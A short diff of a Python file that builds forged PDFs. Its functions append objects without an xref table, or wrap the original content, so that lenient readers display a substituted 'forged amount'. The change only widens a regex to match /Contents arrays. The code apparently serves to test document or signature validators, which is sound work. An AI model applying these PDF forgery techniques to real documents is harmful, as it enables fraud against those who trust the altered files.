@@ -49,7 +49,7 @@ def add_bytes(pdf: bytes) -> bytes:
 
 def add_objects_without_a_table(pdf: bytes) -> bytes:
     """Incremental saving without xref and trailer: lenient readers rebuild the table and take the last object."""
-    number = re.search(rb"/Contents (\d+) 0 R", pdf)
+    number = re.search(rb"/Contents \[?\s*(\d+) 0 R", pdf)
     assert number is not None
     length = len(FORGED_AMOUNT)
     return pdf + b"\n%b 0 obj\n<< /Length %d >>\nstream\n%b\nendstream\nendobj\n" % (number[1], length, FORGED_AMOUNT)
@@ -79,7 +79,7 @@ def wrapped(pdf: bytes) -> bytes:
     message = pdf[hole.start : hole.end].rstrip(b"0>") + b">"
     table_at = int(pdf[pdf.rindex(b"startxref") :].split()[1])
     rows = re.search(rb"xref\s+0 (\d+)\s+((?:\d{10} \d{5} [nf]\s*)+)(trailer.*?>>\s)startxref", pdf, re.DOTALL)
-    number = re.search(rb"/Contents (\d+) 0 R", pdf)
+    number = re.search(rb"/Contents \[?\s*(\d+) 0 R", pdf)
     assert rows is not None
     assert number is not None
     page = b"%b 0 obj\n<< /Length %d >>\nstream\n%b\nendstream\nendobj\n" % (
